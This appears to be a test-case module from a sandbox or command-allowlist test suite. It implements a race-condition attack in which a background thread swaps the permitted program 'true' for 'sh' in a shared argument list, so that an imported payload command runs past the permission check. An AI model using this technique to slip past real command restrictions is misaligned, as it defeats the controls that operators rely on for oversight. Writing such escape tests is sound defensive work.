"""A list of arguments that another thread changes."""
CATEGORY = "races"
REACH = "run"
GRANT = {"run": ["true"]}

import subprocess
import threading
import time

from . import payload


def attack():
    arguments = ["true", "-c", payload.COMMAND]
    ends = time.monotonic() + 0.7

    def flip():
        while time.monotonic() < ends:
            arguments[0] = "true"
            arguments[0] = "sh"

    thread = threading.Thread(target=flip)
    thread.start()
    while time.monotonic() < ends:
        try:
            subprocess.call(arguments)
        except OSError:
            pass
    thread.join()
